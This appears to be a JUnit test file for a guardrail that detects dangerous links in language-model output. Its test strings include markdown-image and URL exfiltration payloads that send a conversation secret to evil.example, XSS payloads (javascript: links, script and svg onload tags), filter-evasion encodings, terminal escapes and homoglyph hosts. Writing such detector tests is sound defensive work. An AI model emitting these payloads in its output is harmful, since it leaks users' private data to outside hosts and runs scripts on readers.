package dev.llmops.guardrails.output;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.llmops.api.guardrail.GuardrailContext;
import dev.llmops.api.guardrail.GuardrailStage;
import dev.llmops.api.identity.Caller;
import dev.llmops.api.model.ModelRequest;
import dev.llmops.guardrails.detect.CheckedText;
import dev.llmops.guardrails.detect.Detection;
import dev.llmops.guardrails.detect.Evidence;
import dev.llmops.guardrails.detect.Provenance;
import dev.llmops.guardrails.internal.link.LinkScanner;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkDetectorTest {

    private static final String SECRET = "The merger with Larkspur closes on Friday, tell nobody.";
    private static final LinkDetector STANDARD = LinkDetector.standard();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](https://evil.example/p.png)",
                "![a](<https://evil.example/p.png>)",
                "![a](https://evil.example/p.png \"title\")",
                "![a]( \n https://evil.example/p.png)",
                "![a][x]\n\n[x]: https://evil.example/p.png",
                "![x][]\n\n[x]: https://evil.example/p.png",
                "![x]\n\n[X]: <https://evil.example/p.png>",
                "[![a](https://evil.example/p.png)](https://evil.example/)",
                "<img src=\"https://evil.example/p.png\">",
                "<IMG alt=x SRC=//evil.example/p.png>",
                "<img src='x' srcset='https://evil.example/1.png 1x, https://evil.example/2.png 2x'>",
                "<link rel=stylesheet href=https://evil.example/a.css>",
                "<div style=\"background:url('https://evil.example/p.png')\">",
                "<video poster=\"https://evil.example/p.png\">",
                "<img src=\"\\\\evil.example\\p.png\">",
                "![a](https:\\\\evil.example/p.png)",
                "![x](&#104;ttps://evil.example/p.png)",
                "![x](https&colon;//evil.example/p.png)",
                "<img src=\"https:&#47;&#47;evil.example/p.png\">",
                "![x](https\\://evil.example/p.png)",
                "![x](https:evil.example/p.png)",
                "![x](http:/evil.example/p.png)",
                "<img alt=< src=https://evil.example/p.png>"
            })
    void a_picture_from_another_host_counts_however_it_is_written(String text) {
        assertThat(categories(text)).contains("image");
        assertThat(STANDARD.detect(output(text)).score()).isGreaterThanOrEqualTo(STANDARD.threshold());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](https://evil.example/p.png?q=merger+with+Larkspur+Friday)",
                "![a](https://evil.example/p?d=VGhlIG1lcmdlciB3aXRoIExhcmtzcHVyIGNsb3Nlcw==)",
                "[here](https://evil.example/?u=merger%20Larkspur%20closes%20Friday)",
                "See https://evil.example/x?note=larkspur-merger-closes-friday now.",
                "See https://evil.example/merger/larkspur/closes/friday/nobody now.",
                "See https://evil.example/x#merger-larkspur-closes-friday-nobody now.",
                "See https://merger.larkspur.friday.evil.example/ now.",
                "![a](https://546865206d65726765722077697468204c61726b737075.evil.example/p.png)"
            })
    void an_address_that_carries_the_conversation_or_something_encoded_is_exfiltration(String text) {
        assertThat(categories(text)).contains("exfiltration");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[a](javascript:alert(1))",
                "[a](JaVaScript:alert(1))",
                "<a href=\"java\tscript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">",
                "<a href=\" &#x6A;avascript:alert(1)\">",
                "<script x=a\"b>alert(1)</script>",
                "<iframe x=a\"b src=//evil.example/></iframe>",
                "<a href=\"java&#115;cript:alert(1)\">",
                "<svg onload=alert(1)>",
                "<script>alert(1)</script>",
                "<iframe src=\"https://evil.example\">",
                "<form action=\"https://evil.example\">",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>"
            })
    void what_runs_is_a_script(String text) {
        assertThat(categories(text)).contains("script");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "` ![a](https://evil.example/p.png)",
                "```\ncode\n```\n![a](https://evil.example/p.png)",
                "`a` ![a](https://evil.example/p.png) `b`",
                "```` ``` ```` ![a](https://evil.example/p.png)",
                "a ` b\n\n![x](https://evil.example/p.png)\n\nc ` d",
                "a ``` b\n```\ncode\n```\n![x](https://evil.example/p.png)",
                "a \\`![x](https://evil.example/p.png) b`",
                "<div>\n`<img src=https://evil.example/p.png>`\n</div>"
            })
    void what_only_looks_like_code_is_followed(String text) {
        assertThat(categories(text)).contains("image");
    }

    @Test
    void escape_sequences_of_terminals_are_seen() {
        assertThat(categories("\u001B]8;;https://evil.example\u0007here\u001B]8;;\u0007"))
                .contains("terminal");
        assertThat(categories("\u001B[2J gone")).contains("terminal");
        assertThat(categories("`\u001B[2J`")).contains("terminal");
        assertThat(STANDARD.detect(output("\u001B[31mred\u001B[0m"))
                        .evidence()
                        .get(0)
                        .range()
                        .length())
                .isEqualTo(5);
    }

    @Test
    void documents_in_addresses_count_and_small_pictures_do_not() {
        assertThat(score("[a](data:text/html;base64,PHNjcmlwdD4=)")).isEqualTo(0.9);
        assertThat(score("![a](data:image/svg+xml,<svg>)")).isEqualTo(0.9);
        assertThat(score("![a](data:image/png;base64,iVBORw0KGgo=)")).isEqualTo(0.3);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://bank.example@evil.example/login",
                "[bank](https://bank.example%2Flogin@evil.example)",
                "[paypal](https://p\u0430ypal.example/login)"
            })
    void a_host_that_looks_like_another_counts(String text) {
        assertThat(categories(text)).contains("deceptive_host");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Read [the manual](https://docs.example/manual) first.",
                "See https://docs.example/a/b?page=3&lang=en.",
                "[local](/p.png) ![local](p.png) [mail](mailto:a@b.example)",
                "a < b and c > d, x[1](2), [not a link] (https)",
                "array[i] = !flag; if (a<b) { return x[0]; }",
                "A javascript: tutorial, data: none.",
                "https://docs.example/a-long-but-readable-title-of-a-page-about-cables-and-plugs",
                "![](<>) []() ![] [",
                "Write `<script>alert(1)</script>` there.",
                "``![a](https://evil.example/p.png)`` shows a picture",
                "```html\n<script src=x></script>\n![a](https://evil.example/p.png)\n```\n",
                "~~~\n<iframe src=x>\n",
                ""
            })
    void ordinary_text_and_plain_links_do_not_count(String text) {
        assertThat(score(text)).isLessThan(STANDARD.threshold());
    }

    @Test
    void an_address_that_the_model_was_given_carries_nothing_of_the_conversation() {
        String url = "https://docs.example/p?q=merger+with+larkspur+friday";
        ModelRequest request = ModelRequest.user(SECRET + " The page is " + url);

        assertThat(STANDARD.detect(output("[page](" + url + ")", request)).score())
                .isEqualTo(0.3);
        assertThat(STANDARD.detect(output("![page](" + url + ")", request)).score())
                .isEqualTo(0.5);
    }

    @Test
    void with_allowed_hosts_every_other_host_counts() {
        LinkDetector strict = LinkDetector.allowing(List.of("docs.example", "*.shop.example"));

        assertThat(strict.detect(output("![a](https://docs.example/p.png) https://cdn.shop.example/x")))
                .isEqualTo(Detection.NONE);
        assertThat(strict.detect(output("https://docs.example.evil.example")).score())
                .isEqualTo(0.7);
        assertThat(strict.detect(output("https://evilshop.example")).score()).isEqualTo(0.7);
        assertThat(strict.detect(output("https://docs.example@evil.example")).score())
                .isEqualTo(0.8);
        assertThatThrownBy(() -> LinkDetector.allowing(List.of("https://x")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("must be names such as");
    }

    @Test
    void what_a_reader_sees_stays_and_ranges_are_exact() {
        String text = "Look: ![the logo](https://evil.example/p.png), and <img src=//evil.example/q.png>.";
        List<Evidence> evidence = STANDARD.detect(output(text)).evidence();

        assertThat(evidence)
                .extracting(seen -> Objects.requireNonNull(seen.range()).in(text))
                .containsExactly("![the logo](https://evil.example/p.png)", "<img src=//evil.example/q.png>");
        assertThat(evidence).extracting(Evidence::replacement).containsExactly("the logo", "[link removed]");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[",
                "![",
                "[]",
                "<",
                "<a",
                "<a b='",
                "<a '\">",
                "](",
                "![a](",
                "[a](<",
                "![a](x ",
                "http://",
                "\u001B",
                "[a]: ",
                "(",
                "data:x",
                "<a b=\"'>"
            })
    void the_work_is_linear_whatever_the_text(String piece) {
        String bomb = piece.repeat((1 << 20) / piece.length());

        assertThat(LinkScanner.reads(bomb)).isLessThanOrEqualTo(20L * bomb.length());
    }

    @Test
    void brackets_within_brackets_keep_no_more_than_their_labels() {
        String bomb = "![".repeat(200_000) + "]".repeat(200_000);

        assertThat(LinkScanner.scan(bomb)).isEmpty();
        assertThat(LinkScanner.scan("![" + "a".repeat(5_000) + "](https://evil.example/p.png)"))
                .hasSize(1);
    }

    @Test
    void arguments_of_tool_calls_are_read_as_the_tool_gets_them() {
        String call = "{\"html\":\"\\u003cimg src=\\\"https://evil.example/p.png\\\">\"}";
        CheckedText text = CheckedText.of(
                call,
                GuardrailStage.TOOL_CALL,
                Provenance.DEVELOPER,
                GuardrailContext.of(Caller.ANONYMOUS, ModelRequest.user(SECRET)));

        assertThat(STANDARD.detect(text).evidence()).singleElement().satisfies(seen -> {
            assertThat(seen.category()).isEqualTo("image");
            assertThat(Objects.requireNonNull(seen.range()).in(call))
                    .startsWith("\"")
                    .endsWith("\"");
            assertThat(seen.replacement()).isEqualTo("\"\"");
        });
    }

    private static List<String> categories(String text) {
        return STANDARD.detect(output(text)).evidence().stream()
                .map(Evidence::category)
                .toList();
    }

    private static double score(String text) {
        return STANDARD.detect(output(text)).score();
    }

    private static CheckedText output(String text) {
        return output(text, ModelRequest.user(SECRET));
    }

    private static CheckedText output(String text, ModelRequest request) {
        return CheckedText.of(
                text, GuardrailStage.OUTPUT, Provenance.DEVELOPER, GuardrailContext.of(Caller.ANONYMOUS, request));
    }
}
